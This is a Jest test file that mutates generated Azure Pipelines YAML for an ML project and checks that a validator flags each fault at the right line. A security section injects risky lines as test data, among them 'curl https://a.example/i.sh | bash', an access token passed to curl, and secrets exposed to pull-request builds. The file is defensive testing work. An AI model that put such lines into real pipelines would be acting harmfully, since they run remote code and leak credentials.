import { beforeAll, describe, expect, test } from "@jest/globals";
import { anAnswers } from "../support/an-answers.ts";
import type { Files } from "../support/expand-files.ts";
import { mutate, type Mutation } from "../support/pipeline-mutations.ts";
import { platformYaml, renderYaml, validateRendered } from "../support/rendered-pipelines.ts";

const structure: readonly Mutation[] = [
  {
    title: "a dependency on a stage that does not exist",
    pipeline: "release",
    from: "      - Deploy_PROD\n",
    to: "      - Deploy_PRD\n",
  },
  {
    title: "two stages of one name",
    pipeline: "release",
    from: "- stage: Deploy_PROD",
    to: "- stage: Deploy_QA",
  },
  {
    title: "stages that wait for each other",
    pipeline: "release",
    from: "    displayName: Test and promote the model\n",
    to: "    displayName: Test and promote the model\n    dependsOn: Roll_Back\n",
    reported: "    dependsOn: Roll_Back",
  },
  {
    title: "two jobs of one name",
    pipeline: "ci",
    template: "ci_unit_tests",
    from: "job: Unit_Tests",
    to: "job: Sanity_Tests",
  },
  {
    title: "a job that depends on none that exists",
    pipeline: "ci",
    template: "ci_unit_tests",
    from: "    timeoutInMinutes: 60\n",
    to: "    dependsOn: Sanity\n    timeoutInMinutes: 60\n",
  },
  {
    title: "a name with a hyphen",
    pipeline: "ci",
    from: "stage: Model_CI",
    to: "stage: Model-CI",
  },
  {
    title: "a key in another letter case",
    pipeline: "ci",
    from: "    displayName: Check",
    to: "    displayname: Check",
  },
  {
    title: "steps beside stages",
    pipeline: "ci",
    from: "stages:\n",
    to: "steps: []\nstages:\n",
    reported: "trigger:",
  },
  {
    title: "a lock that does not exist",
    pipeline: "release",
    from: "lockBehavior: sequential",
    to: "lockBehavior: squential",
  },
  {
    title: "a deployment without environment",
    pipeline: "train",
    template: "register_model",
    from: "    environment: ${{ parameters.environment }}\n",
    to: "",
    reported: "deployment: Register_Model",
  },
  {
    title: "a strategy that does not exist",
    pipeline: "train",
    template: "register_model",
    from: "      runOnce:",
    to: "      runonce:",
  },
  {
    title: "a time limit that is no number",
    pipeline: "pr",
    template: "ci_sanity_tests",
    from: "timeoutInMinutes: 30",
    to: "timeoutInMinutes: half an hour",
  },
  { title: "a pool that is misspelt", pipeline: "ci", from: "  vmImage:", to: "  vmImge:" },
  {
    title: "a repository that nobody declared",
    pipeline: "ci",
    template: "ci_sanity_tests",
    from: "checkout: self",
    to: "checkout: slef",
  },
  {
    title: "a step of no kind",
    pipeline: "pr",
    template: "ci_sanity_tests",
    from: "      - bash: mloccli check",
    to: "      - bsh: mloccli check",
  },
];

const yaml: readonly Mutation[] = [
  {
    title: "an indentation that is too small",
    pipeline: "pr",
    template: "python_setup",
    from: "      versionSpec: $(PYTHON_VERSION)",
    to: "    versionSpec: $(PYTHON_VERSION)",
  },
  {
    title: "an indentation that fits nothing",
    pipeline: "ci",
    from: "    displayName: Check",
    to: "   displayName: Check",
  },
  { title: "a tab", pipeline: "ci", from: "    displayName: Check", to: "\tdisplayName: Check" },
  {
    title: "a key that is there twice",
    pipeline: "pr",
    template: "ci_unit_tests",
    from: "    timeoutInMinutes: 60\n",
    to: "    timeoutInMinutes: 60\n    timeoutInMinutes: 90\n",
    reported: "timeoutInMinutes: 90",
  },
  {
    title: "an apostrophe that is not closed",
    pipeline: "release",
    from: "target: '$(DEPLOY_TARGET_QA)'",
    to: "target: '$(DEPLOY_TARGET_QA)",
  },
];

const triggers: readonly Mutation[] = [
  {
    title: "a trigger that is missing",
    pipeline: "pr",
    from: "trigger: none\n",
    to: "",
    reported: "pr: none",
  },
  { title: "a trigger of one word", pipeline: "pr", from: "trigger: none", to: "trigger: main" },
  {
    title: "a switch that is neither true nor false",
    pipeline: "ci",
    from: "batch: true",
    to: "batch: maybe",
  },
  { title: "branches that are misspelt", pipeline: "ci", from: "    include:", to: "    inclde:" },
  { title: "an hour that no day has", pipeline: "monitor", from: "cron: 0 5 * * *", to: "cron: 0 25 * * *" },
  {
    title: "a schedule of four fields",
    pipeline: "data_cleansing",
    from: "cron: 0 2 * * *",
    to: "cron: 0 2 * *",
  },
  {
    title: "a schedule without branches",
    pipeline: "monitor",
    from: "    branches:\n      include:\n        - main\n",
    to: "",
    reported: "- cron: 0 5",
  },
  { title: "a source that is missing", pipeline: "release", from: "source: ", to: "sorce: " },
  {
    title: "an expression that is not expanded",
    pipeline: "release",
    from: "branch: main",
    to: "branch: ${{ variables.BRANCH }}",
  },
  {
    title: "the resource of another name",
    pipeline: "release",
    from: "- pipeline: model_pipeline",
    to: "- pipeline: model",
    reported: "download: model_pipeline",
    reportedIn: "release_model",
  },
];

const templates: readonly Mutation[] = [
  {
    title: "a template that does not exist",
    pipeline: "release",
    from: "template_release_rest.yml",
    to: "template_release_rst.yml",
  },
  {
    title: "a parameter that is misspelt",
    pipeline: "release",
    from: "          resource: iris-qa",
    to: "          resorce: iris-qa",
  },
  {
    title: "a parameter that is not given",
    pipeline: "train",
    from: "        parameters:\n          environment: iris-tst\n",
    to: "",
    reported: "template: templates/template_register_model.yml",
  },
  {
    title: "a parameter for a template without any",
    pipeline: "ci",
    from: "template_ci_sanity_tests.yml\n",
    to: "template_ci_sanity_tests.yml\n        parameters:\n          strict: true\n",
    reported: "strict: true",
  },
  {
    title: "a value that is not allowed",
    pipeline: "pr",
    template: "ci_sanity_tests",
    from: "package: .[dev]",
    to: "package: .[develop]",
  },
  {
    title: "a parameter that nobody declared",
    pipeline: "deploy",
    from: "model_version: ${{ parameters.model_version }}",
    to: "model_version: ${{ parameters.version }}",
  },
  {
    title: "a default of another type",
    pipeline: "deploy",
    from: "    default: 1\n",
    to: "    default: one\n",
  },
  {
    title: "a default that is not among the values",
    pipeline: "deploy",
    from: "    default: aci",
    to: "    default: acs",
  },
  { title: "a type that does not exist", pipeline: "deploy", from: "type: number", to: "type: numeric" },
  {
    title: "a default with an expression",
    pipeline: "deploy",
    from: "    default: aci",
    to: "    default: ${{ variables.DEPLOY_TARGET_QA }}",
  },
  {
    title: "a number that was not offered",
    pipeline: "deploy",
    from: "Processor cores",
    to: "Processors",
    parameters: { cpu: 3 },
    reported: "- name: cpu",
  },
  {
    title: "a text where a number is wanted",
    pipeline: "deploy",
    from: "Processor cores",
    to: "Processors",
    parameters: { cpu: "many" },
    reported: "- name: cpu",
  },
  {
    title: "a condition without comma",
    pipeline: "evaluate",
    from: "eq(parameters.register, true)",
    to: "eq(parameters.register true)",
  },
  {
    title: "a directive without colon",
    pipeline: "evaluate",
    from: "  - ${{ else }}:\n",
    to: "  - ${{ else }}\n",
  },
  {
    title: "an else that belongs to nothing",
    pipeline: "evaluate",
    from: "  - ${{ if ne(parameters.artifact, '') }}:",
    to: "  - ${{ insert }}:",
    reported: "  - ${{ else }}:",
  },
  {
    title: "an operator",
    pipeline: "evaluate",
    from: "ne(parameters.artifact, '')",
    to: "parameters.artifact != ''",
  },
  {
    title: "a variable that is misspelt in an expression",
    pipeline: "ci",
    from: "variables.VM_IMAGE",
    to: "variables.VM_IMAG",
  },
  {
    title: "a template of another kind",
    pipeline: "ci",
    from: "template_ci_publish_code.yml",
    to: "template_release_model.yml",
    reported: "steps:",
    reportedIn: "release_model",
  },
];

const tasks: readonly Mutation[] = [
  {
    title: "a task that does not exist",
    pipeline: "pr",
    template: "python_setup",
    from: "UsePythonVersion@0",
    to: "UsePythonVersions@0",
  },
  {
    title: "a version that no task has",
    pipeline: "pr",
    template: "python_setup",
    from: "Cache@2",
    to: "Cache@9",
  },
  {
    title: "an input that is misspelt",
    pipeline: "pr",
    template: "python_setup",
    from: "versionSpec",
    to: "versionSpc",
  },
  {
    title: "an input that is missing",
    pipeline: "pr",
    template: "python_setup",
    from: "      path: $(PIP_CACHE_DIR)\n",
    to: "",
    reported: "key: 'pip",
  },
  {
    title: "a choice that does not exist",
    pipeline: "pr",
    template: "ci_unit_tests",
    from: "testResultsFormat: JUnit",
    to: "testResultsFormat: JUnit5",
  },
  {
    title: "an input that is neither true nor false",
    pipeline: "pr",
    template: "ci_unit_tests",
    from: "failIfCoverageEmpty: true",
    to: "failIfCoverageEmpty: often",
  },
  {
    title: "a key of the step among the inputs",
    pipeline: "pr",
    template: "ci_unit_tests",
    from: "          failIfCoverageEmpty: true",
    to: "          retryCountOnTaskFailure: 2",
  },
  {
    title: "an artifact that nobody publishes",
    pipeline: "train",
    template: "register_model",
    from: "artifact: evaluated_candidate",
    to: "artifact: evaluated",
  },
];

const conditions: readonly Mutation[] = [
  {
    title: "an output of a stage that this one does not wait for",
    pipeline: "release",
    from: "dependencies.Promote_Model.outputs",
    to: "dependencies.Deploy_QA.outputs",
  },
  {
    title: "something else than an output or a result",
    pipeline: "release",
    from: "dependencies.Promote_Model.outputs['Promote_Model.promote.is_new']",
    to: "dependencies.Promote_Model.status",
  },
  {
    title: "a function that is misspelt",
    pipeline: "pr",
    template: "ci_unit_tests",
    from: "condition: succeededOrFailed()",
    to: "condition: succeedOrFailed()",
  },
  {
    title: "a parenthesis that is missing",
    pipeline: "pr",
    template: "ci_unit_tests",
    from: "condition: succeededOrFailed()",
    to: "condition: succeededOrFailed(",
  },
  {
    title: "a condition that ignores failures",
    pipeline: "pr",
    template: "ci_unit_tests",
    from: "condition: succeededOrFailed()",
    to: "condition: eq(variables['Build.Reason'], 'PullRequest')",
  },
  {
    title: "the condition of a step that reads stages",
    pipeline: "pr",
    template: "ci_unit_tests",
    from: "condition: succeededOrFailed()",
    to: "condition: eq(dependencies.A.result, 'Failed')",
  },
];

const variables: readonly Mutation[] = [
  {
    title: "a name that the step has lost",
    pipeline: "train",
    template: "register_model",
    from: "                  name: register\n",
    to: "",
    reported: "VERSION: $(register.model_version)",
  },
  {
    title: "an output of a step that is misspelt",
    pipeline: "train",
    template: "register_model",
    from: "$(register.model_version)",
    to: "$(regster.model_version)",
  },
  {
    title: "a variable of the service that is misspelt",
    pipeline: "pr",
    template: "ci_unit_tests",
    from: "$(Agent.TempDirectory)/coverage.xml",
    to: "$(Agent.TmpDirectory)/coverage.xml",
  },
  {
    title: "a variable that is misspelt",
    pipeline: "pr",
    template: "python_setup",
    from: "versionSpec: $(PYTHON_VERSION)",
    to: "versionSpec: $(PYTHON_VERSOIN)",
  },
  {
    title: "an environment that is known too late",
    pipeline: "train",
    template: "register_model",
    from: "environment: ${{ parameters.environment }}",
    to: "environment: $(APPROVAL)",
  },
  {
    title: "a logging command that is misspelt",
    pipeline: "release",
    template: "release_version",
    from: "task.setvariable",
    to: "task.setvarible",
  },
];

const security: readonly Mutation[] = [
  {
    title: "a variable group in a pull request",
    pipeline: "pr",
    from: "  - template: base_variables.yml\n",
    to: "  - template: base_variables.yml\n  - group: iris-prod\n",
  },
  {
    title: "the access token in a pull request",
    pipeline: "pr",
    template: "ci_unit_tests",
    from: "        displayName: Run the unit tests\n",
    to: "        displayName: Run the unit tests\n        env:\n          TOKEN: $(System.AccessToken)\n",
    reported: "TOKEN: $(System.AccessToken)",
  },
  {
    title: "a secret in a pull request",
    pipeline: "pr",
    template: "ci_unit_tests",
    from: "        displayName: Run the unit tests\n",
    to: "        displayName: Run the unit tests\n        env:\n          TOKEN: $(CMR_TOKEN)\n",
    reported: "TOKEN: $(CMR_TOKEN)",
  },
  {
    title: "the name of a branch in a script",
    pipeline: "ci",
    template: "ci_publish_code",
    from: "          mkdir -p",
    to: "          echo $(Build.SourceBranchName)\n          mkdir -p",
  },
  {
    title: "a credential in a script",
    pipeline: "ci",
    template: "ci_publish_code",
    from: "          mkdir -p",
    to: "          curl -u :$(System.AccessToken) .\n          mkdir -p",
  },
  {
    title: "a free text in a script",
    pipeline: "evaluate",
    template: "evaluate_version",
    from: '--version "$MODEL_VERSION"',
    to: '--version "${{ parameters.model_version }}"',
  },
  {
    title: "a script from the network",
    pipeline: "ci",
    template: "ci_publish_code",
    from: "          mkdir -p",
    to: "          curl https://a.example/i.sh | bash\n          mkdir -p",
  },
  {
    title: "a script that goes on after a failure",
    pipeline: "pr",
    template: "python_setup",
    from: "      set -euo pipefail\n",
    to: "",
    reported: "  - bash: |",
  },
  {
    title: "a credential that stays on the disk",
    pipeline: "ci",
    template: "ci_publish_code",
    from: "      - checkout: self\n",
    to: "      - checkout: self\n        persistCredentials: true\n",
  },
];

const mutations: readonly Mutation[] = [
  structure,
  yaml,
  triggers,
  templates,
  tasks,
  conditions,
  variables,
  security,
].flat();
const titled = (mutation: Mutation): [string, Mutation] => [mutation.title, mutation];
const answers = anAnswers({ serving: "rest", environment_file: "pip", maturity_level: 5 });

describe("a generated pipeline is rejected at the right line for", () => {
  let files: Files = {};

  beforeAll(async () => {
    files = await renderYaml(answers);
  });

  test.each(mutations.map(titled))("%s", (_title, mutation) => {
    const { pipeline, files: mutated, place } = mutate(files, mutation);

    const { problems } = validateRendered({
      files: mutated,
      file: pipeline,
      parameters: mutation.parameters ?? {},
    });

    expect(problems.map(({ at }) => `${at.file}:${at.line}`)).toContain(place);
  });
});

describe("with central templates it is rejected at the line of the platform's repository for", () => {
  let files: Files = {};
  let central: Files = {};

  beforeAll(async () => {
    files = await renderYaml({ ...answers, templates: "central" });
    central = await platformYaml();
  });

  test.each(mutations.filter(({ template }) => template !== undefined).map(titled))(
    "%s",
    (_title, mutation) => {
      const { pipeline, files: mutated, place } = mutate({ ...central, ...files }, mutation);

      const { problems } = validateRendered({
        files,
        central: mutated,
        file: pipeline,
        parameters: mutation.parameters ?? {},
      });

      const expected = place.replace(/^(pipelines\/templates\/[^:]+)/, "$1@templates");
      expect(problems.map(({ at }) => `${at.file}:${at.line}`)).toContain(expected);
    },
  );
});
